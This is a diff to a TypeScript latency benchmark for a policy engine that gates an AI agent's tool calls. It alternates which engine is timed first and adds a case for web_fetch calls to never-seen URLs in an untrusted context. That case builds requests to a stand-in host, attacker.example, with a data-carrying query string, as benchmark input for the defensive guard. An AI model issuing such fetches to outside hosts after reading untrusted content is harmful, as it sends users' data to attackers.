@@ -4,8 +4,14 @@
  * a `web_fetch` to a new host, one to a host the user named, a shell command, a `git push`, a file read, a
  * user-level memory write — decided by the gate's policy engine with the guard and a tainted context (an
  * untrusted, public context: 12 sources, 200 trusted hosts, 2,000 offered links), and by the same engine
- * without labels (no guard, no context), interleaved call by call. The anchor is the engine without labels;
- * the target is the issue's: ≤ 1.2× at p50.
+ * without labels (no guard, no context), call by call. The anchor is the engine without labels; the target is
+ * the issue's: ≤ 1.2× at p50.
+ *
+ * Each call is decided by both engines back to back, and which goes first flips every round: the second
+ * decision of the same call finds it warm (the command analysis, the CPU's caches), so a fixed order
+ * flatters whichever side goes second — with ours always first, an engine timed against itself came out
+ * 1.22–1.33× (an A/A run on 2026-11-27). Parsed URLs are cached by their text, so the repeated calls find
+ * them parsed; the last line gives each call a URL never seen before, for the cost of a first sight.
  */
 import { mkdtemp, rm } from "node:fs/promises";
 import { tmpdir } from "node:os";
@@ -14,7 +20,7 @@ import type { DecisionRequest, Label, LabelSource } from "../core/index.js";
 import { FlowSession } from "../core/index.js";
 import { createFlowKnowledge, PolicyEngine } from "../policy/index.js";
 import { createToolgate } from "../toolgate.js";
-import { fmt, interleaved, report } from "./harness.js";
+import { fmt, report, type Stats, stats } from "./harness.js";
 
 const ROUNDS = 3000;
 /** Which of CALLS send data out after untrusted content (the guard raises them to ask). */
@@ -41,6 +47,43 @@ function taintedContext(): FlowSession {
   const hosts = Array.from({ length: 200 }, (_, i) => `host${i}.example.com`).concat("docs.example.com");
   const links = Array.from({ length: 2000 }, (_, i) => `https://cdn${i % 50}.example.org/lib/${i}`);
   return FlowSession.from({ label, trustedHosts: hosts, links });
+}
+
+/**
+ * Times `ours(k)` and `anchor(k)` for every call k of every round, back to back, ours first in even rounds
+ * and the anchor first in odd ones (so each call is measured in both orders alike); after one warm-up round.
+ */
+async function alternated(
+  calls: number,
+  rounds: number,
+  ours: (k: number, round: number) => unknown,
+  anchor: (k: number, round: number) => unknown,
+): Promise<[Stats, Stats]> {
+  const a: number[] = [];
+  const b: number[] = [];
+  for (let round = -1; round < rounds; round++) {
+    for (let k = 0; k < calls; k++) {
+      for (const side of round % 2 === 0 ? [0, 1] : [1, 0]) {
+        const t0 = performance.now();
+        await (side === 0 ? ours(k, round) : anchor(k, round));
+        const took = performance.now() - t0;
+        if (round >= 0) (side === 0 ? a : b).push(took);
+      }
+    }
+  }
+  return [stats(a), stats(b)];
+}
+
+function reportLine(what: string, calls: number, ours: Stats, anchor: Stats): void {
+  const ratio = ours.p50 / anchor.p50;
+  report({
+    name: `decide with labels (guard on, ${what}) vs without, ${calls} calls × ${ROUNDS}`,
+    ours: `p50 ${fmt(ours.p50)} p99 ${fmt(ours.p99)}`,
+    anchor: `same calls, same engine without labels: p50 ${fmt(anchor.p50)} p99 ${fmt(anchor.p99)} (p99 ratio ${(ours.p99 / anchor.p99).toFixed(2)}×)`,
+    ratio,
+    target: "≤ 1.2× at p50",
+    pass: ratio <= 1.2,
+  });
 }
 
 export default async function run(): Promise<void> {
@@ -84,23 +127,31 @@ export default async function run(): Promise<void> {
     ];
     for (const line of lines) {
       const ours = line.calls.map((request) => ({ ...request, context: line.context }));
-      let i = 0;
-      let j = 0;
-      const [withStats, anchor] = await interleaved(
-        () => withLabels.decide(ours[i++ % ours.length]!),
-        () => without.decide(line.calls[j++ % line.calls.length]!),
-        ROUNDS * line.calls.length,
+      const n = line.calls.length;
+      const [withStats, anchor] = await alternated(
+        n,
+        ROUNDS,
+        (k) => withLabels.decide(ours[k]!),
+        (k) => without.decide(line.calls[k]!),
       );
-      const ratio = withStats.p50 / anchor.p50;
-      report({
-        name: `decide with labels (guard on, ${line.what}) vs without, ${line.calls.length} calls × ${ROUNDS}`,
-        ours: `p50 ${fmt(withStats.p50)} p99 ${fmt(withStats.p99)}`,
-        anchor: `same calls, same engine without labels: p50 ${fmt(anchor.p50)} p99 ${fmt(anchor.p99)} (p99 ratio ${(withStats.p99 / anchor.p99).toFixed(2)}×)`,
-        ratio,
-        target: "≤ 1.2× at p50",
-        pass: ratio <= 1.2,
-      });
+      reportLine(line.what, n, withStats, anchor);
     }
+    // A URL the cache has never seen in every round (the warm-up round's too): the WHATWG parser's full
+    // cost, on both sides alike.
+    const fetch = gate.registry.get("web_fetch")!;
+    const fresh = Array.from({ length: ROUNDS + 1 }, (_, round) => {
+      const args = { url: `https://attacker.example/c?d=${round}-${Math.random().toString(36).slice(2)}` };
+      const invocation = fetch.build(args);
+      return { tool: fetch, invocation, args, risk: invocation.riskFor() };
+    });
+    const freshOurs = fresh.map((request) => ({ ...request, context: tainted }));
+    const [first, firstAnchor] = await alternated(
+      1,
+      ROUNDS,
+      (_, round) => withLabels.decide(freshOurs[round + 1]!),
+      (_, round) => without.decide(fresh[round + 1]!),
+    );
+    reportLine("tainted context, a web_fetch to a URL never seen before", 1, first, firstAnchor);
   } finally {
     await gate.close();
     await rm(root, { recursive: true, force: true });
